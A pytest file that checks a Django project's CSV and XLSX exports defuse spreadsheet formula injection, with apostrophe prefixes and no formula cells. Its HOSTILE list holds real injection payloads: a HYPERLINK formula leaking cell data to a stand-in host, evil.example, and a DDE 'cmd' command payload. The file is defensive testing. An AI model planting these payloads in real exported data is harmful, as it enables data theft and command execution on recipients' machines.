"""Exports neutralise formulas (issue 12, point 3; OWASP CSV injection).

Text that a coordinator, a partner system or an applicant wrote comes out of every CSV as text
(a leading apostrophe before ``= + - @``, a tab or a carriage return) and out of every XLSX as
a string cell: the files are read back, and no cell is a formula.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from cooperation.spreadsheets import csv_writer, neutralise, xlsx_row
from exchanges.models import Call
from reports import services as report_services
from tests.factories import InstitutionFactory
from tests.projects.factories import ProjectFactory

pytestmark = pytest.mark.django_db


# What XLSX keeps of each text. openpyxl writes through lxml (a dependency of the open-data
# exports), which escapes a carriage return, so every text reads back as it was written.
def _as_xml_keeps(texts: list[str]) -> set[str]:
    return set(texts)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]


def _no_formula(workbook_bytes: bytes) -> list[object]:
    """Return every cell value of every sheet, failing on any formula cell."""
    workbook = load_workbook(io.BytesIO(workbook_bytes))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    # And no formula element in the raw XML either (openpyxl reads back what it wrote).
    with zipfile.ZipFile(io.BytesIO(workbook_bytes)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    return values


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_starts_a_formula_is_prefixed(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Agua", "a=b", "", " =x", 12, -5, 1.5, None])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value


def test_the_shared_csv_writer_and_xlsx_row_write_no_formula():
    buffer = io.StringIO()
    csv_writer(buffer).writerow([*HOSTILE, -5])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [*("'" + t for t in HOSTILE), "-5"]
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("t")
    sheet.append(xlsx_row(sheet, [*HOSTILE, -5]))
    out = io.BytesIO()
    workbook.save(out)
    values = _no_formula(out.getvalue())
    assert values[-1] == -5 and set(values[:-1]) == _as_xml_keeps(HOSTILE)


@pytest.fixture
def hostile_projects(institution_cdmx, institution_bcn):
    return [
        ProjectFactory(institutions=[institution_cdmx, institution_bcn], title_es=text)
        for text in HOSTILE
    ]


def test_the_admins_project_exports_write_no_formula(login, official_cdmx, hostile_projects):
    client = login(official_cdmx, language="es")
    data = {"action": "export_csv", "_selected_action": [p.pk for p in hostile_projects]}
    response = client.post("/admin/projects/jointproject/", data)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    titles = {row[1] for row in rows[1:]}
    assert titles == {"'" + text for text in HOSTILE}
    response = client.post("/admin/projects/jointproject/", {**data, "action": "export_xlsx"})
    assert response.status_code == 200
    assert _as_xml_keeps(HOSTILE) <= set(_no_formula(response.content))


def test_the_admins_application_export_writes_no_formula(login, in_evaluation, official_bcn):
    Call.objects.filter(pk=in_evaluation.call_id).update(title_es=HOSTILE[0], title=HOSTILE[0])
    response = login(official_bcn, language="es").post(
        "/admin/exchanges/stayapplication/",
        {"action": "export_csv", "_selected_action": [in_evaluation.pk]},
    )
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][1] == "'" + HOSTILE[0]


@pytest.fixture
def hostile_institutions(cdmx):
    return [
        InstitutionFactory(code=f"EVIL{index}", name=text, name_es=text, party=cdmx)
        for index, text in enumerate(HOSTILE)
    ]


def _report(official, fmt: str):
    run = report_services.report_request(
        actor=official, kind="institutions", parameters={}, format=fmt, enqueue=False
    )
    assert report_services.report_execute(run.pk) == "succeeded"
    run.refresh_from_db()
    with run.file.open("rb") as handle:
        return handle.read()


def test_report_files_write_no_formula(official_cdmx, hostile_institutions):
    content = _report(official_cdmx, "xlsx")
    assert _as_xml_keeps(HOSTILE) <= set(_no_formula(content))
    text = _report(official_cdmx, "csv")
    if text.startswith(b"PK"):  # several tables: a ZIP of CSV files
        with zipfile.ZipFile(io.BytesIO(text)) as archive:
            text = b"".join(archive.read(n) for n in archive.namelist())
    cells = {cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in row}
    assert {"'" + t for t in HOSTILE} <= cells
    assert not set(HOSTILE) & cells
